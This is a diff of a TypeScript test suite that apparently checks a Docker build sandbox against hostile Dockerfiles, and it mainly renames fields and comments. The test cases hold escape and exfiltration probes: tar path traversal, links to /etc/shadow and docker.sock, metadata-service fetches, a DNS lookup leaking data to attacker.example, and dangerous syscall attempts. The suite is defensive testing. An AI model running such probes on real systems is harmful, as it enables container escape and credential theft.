@@ -17,12 +17,12 @@ const ownAddress =
     .find((address) => address?.internal === false)?.address ?? '127.0.0.1';
 const hostCorePattern = readFileSync('/proc/sys/kernel/core_pattern', 'utf8');
 
-// Something of the host's that accepts connections on every address it has.
+// A host process that accepts connections on all of the host's addresses.
 const listener = createServer((socket) => socket.end()).unref();
 await new Promise<void>((resolve) => listener.listen(0, '::', resolve));
 const { port } = listener.address() as AddressInfo;
 
-/** Every file the shelf serves, with size and time. */
+/** All files that the shelf serves, with size and modification time. */
 async function shelfFiles(dir: string): Promise<string[]> {
   const entries = (await readdir(join(dir, 'www'), { recursive: true, withFileTypes: true })).filter(
     (entry) => entry.isFile(),
@@ -38,7 +38,7 @@ async function shelfFiles(dir: string): Promise<string[]> {
 }
 const shelfBefore = shelfFiles(process.env.SHELF_DIR ?? join(import.meta.dirname, '../../../.data/shelf'));
 
-/** Prints "opened" or "done" before what it got, "denied" before what it did not. */
+/** Prints "opened" for each attempt that succeeds and "denied" for each that fails. */
 const attempts = (lines: string) => `import ctypes, os, socket
 libc = ctypes.CDLL(None, use_errno=True)
 def attempt(name, work):
@@ -57,7 +57,7 @@ def write(path, text):
     with open(path, "w") as file: file.write(text)
 ${lines}`;
 
-const nothingOpened: HostileCase['and'] = ({ log }) => {
+const nothingOpened: HostileCase['verify'] = ({ log }) => {
   expect(log).toContain('denied');
   expect(log).not.toMatch(/^opened/m);
 };
@@ -65,7 +65,7 @@ const nothingOpened: HostileCase['and'] = ({ log }) => {
 const cases: HostileCase[] = [
   {
     number: '10',
-    name: 'ADD of a tar whose names lead upwards and to the root',
+    name: 'ADD of a tar with names that lead upwards or to the root',
     dockerfile: `${base}ADD x.tar /in/\nRUN find / -xdev -name 'hostile-*'\n`,
     files: {
       'x.tar': tarFile([
@@ -73,8 +73,8 @@ const cases: HostileCase[] = [
         { name: '/hostile-root', type: '0', data: 'x' },
       ]),
     },
-    wanted: { passed: false },
-    and: async ({ log }) => {
+    expected: { passed: false },
+    verify: async ({ log }) => {
       expect(log).not.toMatch(/^\/hostile-up/m);
       await expect(stat('/hostile-up')).rejects.toThrow();
       await expect(stat('/hostile-root')).rejects.toThrow();
@@ -82,7 +82,7 @@ const cases: HostileCase[] = [
   },
   {
     number: '10',
-    name: 'ADD of a tar with links out of its folder, and files behind them',
+    name: 'ADD of a tar with links out of its folder, and files reached through them',
     dockerfile: `${base}ADD x.tar /in/\nRUN ls -l /in; cat /in/passwd\n`,
     files: {
       'x.tar': tarFile([
@@ -91,39 +91,39 @@ const cases: HostileCase[] = [
         { name: 'passwd', type: '1', link: '/etc/shadow' },
       ]),
     },
-    wanted: { passed: false },
-    and: async () => expect(stat('/etc/hostile-behind')).rejects.toThrow(),
+    expected: { passed: false },
+    verify: async () => expect(stat('/etc/hostile-behind')).rejects.toThrow(),
   },
   {
     number: '11',
     name: 'links to /etc, /proc and the disk where the image analysis reads',
     dockerfile: `${python}RUN rm -rf /var/lib/dpkg/status /etc/os-release /app; ln -s /etc/shadow /var/lib/dpkg/status; ln -s /proc/1/environ /etc/os-release; ln -s /data/docker /usr/local/lib/python3.11/site-packages/x.dist-info; ln -s /sock/docker.sock /app; ln -s / /root-link\n`,
-    wanted: graded,
-    and: ({ result }) => expect(JSON.stringify(result)).not.toContain(hostname()),
+    expected: graded,
+    verify: ({ result }) => expect(JSON.stringify(result)).not.toContain(hostname()),
   },
   {
     number: '11',
     name: 'COPY through a link that leads out of the stage',
     dockerfile: `${base}RUN ln -s /../../../../../../sock /out; ln -s /proc/1/root /proc-out\nFROM debian:bookworm-slim\nCOPY --from=0 /out/docker.sock /x\n`,
-    wanted: failed,
+    expected: failed,
   },
   {
     number: '13',
     name: 'RUN --security=insecure',
     dockerfile: `${base}RUN --security=insecure true\n`,
-    wanted: failed,
+    expected: failed,
   },
   {
     number: '14',
     name: 'RUN --network=host',
     dockerfile: `${base}RUN --network=host true\n`,
-    wanted: failed,
+    expected: failed,
   },
   {
     number: '14',
     name: 'RUN --device',
     dockerfile: `${base}RUN --device=nvidia.com/gpu=all true\n`,
-    wanted: failed,
+    expected: failed,
   },
   ...[
     'http://169.254.169.254/latest/meta-data/',
@@ -137,11 +137,11 @@ const cases: HostileCase[] = [
     number: '16',
     name: `ADD ${source.replace(ownAddress, 'an address of the host')}`,
     dockerfile: `${base}ADD ${source} /x\n`,
-    wanted: failed,
+    expected: failed,
   })),
   {
     number: '17',
-    name: 'names looked up and asked of servers',
+    name: 'name lookups, also directly from servers',
     ...step(
       attempts(`attempt("lookup", lambda: socket.getaddrinfo("c2VjcmV0.attacker.example", 80))
 def ask(server):
@@ -152,8 +152,8 @@ def ask(server):
 for server in ["172.17.0.1", "8.8.8.8", "127.0.0.11", "127.0.0.53"]: attempt(server, lambda: ask(server))
 `),
     ),
-    wanted: graded,
-    and: nothingOpened,
+    expected: graded,
+    verify: nothingOpened,
   },
   ...[
     'https://github.com/docker/docs.git',
@@ -163,7 +163,7 @@ for server in ["172.17.0.1", "8.8.8.8", "127.0.0.11", "127.0.0.53"]: attempt(ser
     number: '18',
     name: `ADD ${source}`,
     dockerfile: `${base}ADD ${source} /x\n`,
-    wanted: failed,
+    expected: failed,
   })),
   {
     number: '19',
@@ -181,8 +181,8 @@ for method in ["PUT", "POST", "DELETE", "PATCH", "MKCOL"]:
 for path in ["/../../../../etc/passwd", "/simple/../../images.json", "/%2e%2e/%2e%2e/images.json", "/simple/..%2f..%2f..%2fetc%2fpasswd", "//etc/passwd", "/\\x00", "/simple/%00"]: attempt(f"GET {path!a}", lambda: send("GET", path))
 `),
     ),
-    wanted: graded,
-    and: async (observed, fixture) => {
+    expected: graded,
+    verify: async (observed, fixture) => {
       await nothingOpened(observed, fixture);
       expect(await shelfFiles(fixture.env.SHELF_DIR)).toEqual(await shelfBefore);
     },
@@ -191,21 +191,21 @@ for path in ["/../../../../etc/passwd", "/simple/../../images.json", "/%2e%2e/%2
     number: '20',
     name: 'any engine socket, by name, by mount and by process',
     dockerfile: `${base}RUN --mount=type=bind,source=/sock,target=/a true\n`,
-    wanted: failed,
+    expected: failed,
   },
   {
     number: '20',
-    name: 'a socket in the file system or the abstract names',
+    name: 'sockets in the file system or the abstract namespace',
     dockerfile: `${base}RUN find / -xdev -type s -printf 'opened %p\\n'; grep -h @ /proc/net/unix | sed 's/^/opened /'; ls /sock /data /shelf 2>&1 | sed 's/^/denied /'\n`,
-    wanted: graded,
-    and: nothingOpened,
+    expected: graded,
+    verify: nothingOpened,
   },
   {
     number: '20',
-    name: 'the sandbox by /proc',
+    name: 'the sandbox through /proc',
     dockerfile: `${base}RUN for n in /proc/[0-9]*; do ls $n/root/sock 2>/dev/null | sed 's/^/opened /'; done; grep -E 'docker.sock|/sock' /proc/self/mounts | sed 's/^/opened /'; echo denied\n`,
-    wanted: graded,
-    and: nothingOpened,
+    expected: graded,
+    verify: nothingOpened,
   },
   {
     number: '23',
@@ -215,37 +215,37 @@ for path in ["/../../../../etc/passwd", "/simple/../../images.json", "/%2e%2e/%2
         'for name, kind, number in [("sda", 0o60000, 0x800), ("vda", 0o60000, 0xfe00), ("mem", 0o20000, 0x101), ("kmsg", 0o20000, 0x10b), ("fuse", 0o20000, 0xae5), ("loop", 0o20000, 0xaed)]:\n    attempt(name, lambda: (os.mknod("/n" + name, kind | 0o666, number), open("/n" + name, "rb").read(1)))\n',
       ),
     ),
-    wanted: graded,
-    and: nothingOpened,
+    expected: graded,
+    verify: nothingOpened,
   },
   {
     number: '23',
-    name: 'a device node by the tar of ADD',
+    name: 'a device node in a tar of ADD',
     dockerfile: `${base}ADD x.tar /in/\nRUN head -c 1 /in/sda && echo opened\n`,
     files: { 'x.tar': tarFile([{ name: 'sda', type: '3', mode: 0o666 }]) },
-    wanted: failed,
+    expected: failed,
   },
   {
     number: '23',
     name: 'setuid and file capabilities',
     dockerfile: `${python}RUN cp /bin/cat /bin/root-cat && chmod 6755 /bin/root-cat && useradd -m eve && su eve -c '/bin/root-cat /proc/1/environ /etc/shadow' | wc -c\n`,
-    wanted: graded,
+    expected: graded,
   },
   {
     number: '24',
-    name: 'ONBUILD of a stage',
+    name: 'ONBUILD in a stage',
     dockerfile: 'FROM debian:bookworm-slim AS base\nONBUILD RUN --network=host true\nFROM base\n',
-    wanted: failed,
+    expected: failed,
   },
   {
     number: '24',
-    name: 'WORKDIR upwards, into /proc and of 4 KiB',
+    name: 'WORKDIR upwards and into /proc',
     dockerfile: `${base}WORKDIR ../../../../../proc/1/root\nWORKDIR /proc/self/fd\nRUN ls ../../../../sock && echo opened\n`,
-    wanted: failed,
+    expected: failed,
   },
   {
     number: '24',
-    name: 'links where the engine mounts',
+    name: 'links at the engine’s mount points',
     dockerfile: `FROM scratch\nADD x.tar /\nCOPY --from=debian:bookworm-slim /usr /usr\nRUN ["/usr/bin/ls", "/"]\n`,
     files: {
       'x.tar': tarFile([
@@ -257,20 +257,20 @@ for path in ["/../../../../etc/passwd", "/simple/../../images.json", "/%2e%2e/%2
         { name: 'lib', type: '2', link: 'usr/lib' },
       ]),
     },
-    wanted: { passed: false },
-    and: async ({ sandbox }) => expect(sandbox).toBeDefined(),
+    expected: { passed: false },
+    verify: async ({ sandbox }) => expect(sandbox).toBeDefined(),
   },
   {
     number: '37',
-    name: 'other sandboxes and the host, by address and by abstract name',
+    name: 'other sandboxes and the host, by address and by abstract socket name',
     ...step(
       attempts(`for address, port in [("${ownAddress}", ${port}), ("127.0.0.1", ${port}), ("172.17.0.1", ${port}), ("172.17.0.1", 2375), ("172.17.0.2", 8000), ("172.17.0.3", 8000), ("10.0.2.2", 80)]:
     attempt(f"{address} {port}", lambda: socket.create_connection((address, port), timeout=2))
 for name in ["\\0/tmp/.X11-unix/X0", "\\0/containerd-shim", "\\0dbus"]: attempt(repr(name), lambda: socket.socket(socket.AF_UNIX).connect(name))
 `),
     ),
-    wanted: graded,
-    and: nothingOpened,
+    expected: graded,
+    verify: nothingOpened,
   },
   {
     number: '38',
@@ -280,19 +280,19 @@ for name in ["\\0/tmp/.X11-unix/X0", "\\0/containerd-shim", "\\0dbus"]: attempt(
         'for family, kind in [(38, 5), (40, 1), (40, 2)]: attempt(f"family {family}", lambda: socket.socket(family, kind))\n',
       ),
     ),
-    wanted: graded,
-    and: nothingOpened,
+    expected: graded,
+    verify: nothingOpened,
   },
   {
     number: '38',
-    name: 'system calls of the kernel’s edge',
+    name: 'dangerous system calls',
     ...step(
       attempts(
         'for name, number in {"bpf": 321, "perf_event_open": 298, "kexec_load": 246, "init_module": 175, "finit_module": 313, "open_by_handle_at": 304, "userfaultfd": 323, "io_uring_setup": 425, "reboot": 169, "swapon": 167, "settimeofday": 164, "iopl": 172, "acct": 163, "quotactl": 179, "lookup_dcookie": 212, "kcmp": 312, "add_key of another": 248}.items():\n    attempt(name, lambda: call(number, 0, 0, 0, 0, 0))\n',
       ),
     ),
-    wanted: graded,
-    and: nothingOpened,
+    expected: graded,
+    verify: nothingOpened,
   },
   {
     number: '38',
@@ -304,15 +304,15 @@ attempt("kcore", lambda: open("/proc/kcore", "rb").read(1))
 attempt("kmsg", lambda: open("/dev/kmsg", "rb").read(1))
 `),
     ),
-    wanted: graded,
-    and: async (observed, fixture) => {
+    expected: graded,
+    verify: async (observed, fixture) => {
       await nothingOpened(observed, fixture);
       expect(await readFile('/proc/sys/kernel/core_pattern', 'utf8')).toBe(hostCorePattern);
     },
   },
   {
     number: '36',
-    name: 'keyrings, inotify, user namespaces and System V memory until there are none',
+    name: 'keyrings, inotify, user namespaces and System V memory until they are exhausted',
     ...step(
       attempts(`keys = 0
 try:
@@ -332,9 +332,9 @@ for n in range(300):
 print("denied memory", sum(1 for _ in range(5_000) if libc.shmget(0, 4096, 0o1600) < 0))
 `),
     ),
-    wanted: { status: expect.stringMatching(/graded|build-failed/) as string },
-    and: async (_observed, { pool }) => {
-      // The next sandbox takes the same slot, and so the same UIDs.
+    expected: { status: expect.stringMatching(/graded|build-failed/) as string },
+    verify: async (_observed, { pool }) => {
+      // The next sandbox uses the same slot, and so the same UIDs.
       const next = await pool.acquire('next');
       expect((await next.engine.version()).Version).not.toBe('');
       await pool.release(next, 'discard');
